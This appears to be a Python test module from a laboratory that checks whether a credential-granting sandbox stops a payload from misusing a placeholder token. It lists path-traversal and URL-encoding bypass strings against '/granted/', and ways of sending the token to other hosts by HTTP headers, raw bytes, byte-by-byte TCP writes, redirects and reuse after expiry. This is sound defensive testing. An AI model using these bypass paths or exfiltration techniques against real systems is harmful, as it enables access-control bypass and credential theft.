"""Ways to a credential that a payload may use and must not have (§2.8 of the catalogue).

`api.test` is granted below /granted, `once.test` for two requests, `brief.test` for a second; the
servers there give back what they are asked to (reflections.py of the laboratory).
"""
import base64
import gzip
import json
import socket
import time
import urllib.parse
import urllib.request

from registry import Blocked, attempt
from wire import dial, http, judged, receive, receive_all

PLACEHOLDER = "sentinel-grant-api"
IN_BASE64 = base64.b64encode(f"user:{PLACEHOLDER}".encode()).decode()


def ask(host, path, token=None, seconds=3):
    """The whole answer to one request with a placeholder, by default that of the host's own grant."""
    token = token or f"sentinel-grant-{host.partition('.')[0]}"
    with dial(host, 80) as stream:
        stream.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n"
                       f"Authorization: Bearer {token}\r\n\r\n".encode())
        return receive_all(stream, seconds)


def readings(path):
    """What servers may take a path for: as it is, decoded once or twice, without parameters."""
    decoded = [path, urllib.parse.unquote(path), urllib.parse.unquote(urllib.parse.unquote(path))]
    for text in [*decoded, *(text.replace("\\", "/") for text in decoded)]:
        for form in (text, "/".join(part.partition(";")[0] for part in text.split("/"))):
            segments = []
            for part in form.split("/"):
                if part == "..":
                    segments = segments[:-1]
                elif part not in ("", "."):
                    segments.append(part)
            yield "/" + "/".join(segments)


@attempt("W62", "a path of the grant, and another spelling of it", "/granted/x", "/%67ranted/x")
def _(path):
    answer = judged(ask("api.test", path))
    return answer if "GET /granted/x " in answer or path == "/%67ranted/x" else None


@attempt("E62", "paths that two readers read differently", "/granted/../secret",
         "/granted/%2e%2e/secret", "/granted/.%2e/secret", "/granted/%2E./secret",
         "/granted/%252e%252e/secret", "/granted/..%2fsecret", "/granted%2f..%2fsecret",
         "/granted/..;/secret", "/granted/..;x=y/secret", "/granted/..\\secret",
         "/granted/..%5csecret", "/granted/x//../../secret", "/granted/./../secret",
         "/granted/%25%32%65%25%32%65/secret", "/secret/../granted/../secret", "//secret",
         "/granted/../../secret", "/secret?/granted/", "/secret#/granted/", "/granted-not/secret")
def _(path):
    answer = judged(ask("api.test", path))
    seen = json.loads(answer.partition("\r\n\r\n")[2])["line"].split(" ")[1].partition("?")[0]
    outside = [form for form in readings(seen) if not form.startswith("/granted/")]
    return f"{seen} may be read as {outside[0]}" if outside else None


@attempt("E96", "the placeholder in a request to another host",
         ("GET / HTTP/1.1", f"Authorization: Bearer {PLACEHOLDER}", ""),
         ("GET / HTTP/1.1", f"Authorization: Basic {IN_BASE64}", ""),
         (f"GET /?token={PLACEHOLDER} HTTP/1.1", "X: y", ""),
         ("GET / HTTP/1.1", f"Cookie: a={PLACEHOLDER.encode().hex()}", ""),
         ("POST / HTTP/1.1", "X: y", f"token={PLACEHOLDER}"))
def _(case):
    line, field, body = case
    return http("plain.test", f"{line}\r\nHost: plain.test\r\n{field}\r\n"
                f"Content-Length: {len(body)}\r\n\r\n{body}")


@attempt("E96b", "the placeholder as bytes to another host", ("raw.test", 7777, PLACEHOLDER),
         ("raw.test", 7777, IN_BASE64), ("auto.test", 9999, f"x{PLACEHOLDER}"),
         ("auto.test", 22, f"SSH-2.0-{PLACEHOLDER}"), ("ssh.test", 22, f"SSH-2.0-{PLACEHOLDER}"),
         ("93.184.216.60", 7777, PLACEHOLDER))
def _(case):
    host, port, text = case
    with dial(host, port) as stream:
        stream.sendall(text.encode())
        answer = receive_all(stream, 2)
        return answer if text in answer else None


@attempt("E96c", "the placeholder byte by byte, in the middle of a conversation")
def _():
    with dial("raw.test", 7777) as stream:
        stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        stream.sendall(b"ping")
        if receive(stream) != "ping":
            raise ValueError("no echo of innocent bytes")
        text = ""
        for byte in PLACEHOLDER.encode():
            stream.sendall(bytes([byte]))
            text += receive(stream)
        return text


@attempt("E96d", "the placeholder of one grant to the host of another")
def _():
    return judged(ask("brief.test", "/", PLACEHOLDER))


@attempt("E101", "a redirect to another host, with the credential taken along",
         "http://denied.test/", "http://plain.test/", "http://brief.test/")
def _(target):
    request = urllib.request.Request(
        f"http://api.test/granted/redirect?{target}",
        headers={"Authorization": f"Bearer {PLACEHOLDER}"})
    with urllib.request.urlopen(request, timeout=5) as answer:
        return answer.read()[:200]


def reflected(path):
    """What an answer gives back, decoded; blocked when it ends before the whole of it."""
    answer = ask("api.test", f"/granted/{path}").encode("latin-1")
    head, _, body = answer.partition(b"\r\n\r\n")
    if not head.startswith(b"HTTP/1.1 200"):
        raise Blocked(head)
    if path == "field":
        body = head
    if b"chunked" in head:
        parts = body.split(b"\r\n")
        body = b"".join(parts[1::2])
    if path == "gzip":
        body = gzip.decompress(body)
    return body.decode("latin-1")


@attempt("E102", "a credential that comes back in disguise", "body", "split", "field", "gzip",
         "base64", "hex", "percent", "entities", "escapes", "trailer")
def _(path):
    text = reflected(path)
    # The server says END behind the credential, wherever it is.
    if "END" not in text:
        raise Blocked(f"it ends early: {text[-60:]}")
    return text[-100:]


@attempt("W102", "an answer that gives back nothing of it")
def _():
    text = reflected("length")
    return text if text.endswith("END") else None


@attempt("E103", "a credential after its last use")
def _():
    for _ in range(2):
        if not ask("once.test", "/").startswith("HTTP/1.1 200"):
            raise ValueError("not granted before its end")
    return judged(ask("once.test", "/"))


@attempt("E103b", "a credential after its time", slow=True)
def _():
    time.sleep(1.1)  # it ends a second after the run began
    return judged(ask("brief.test", "/"))
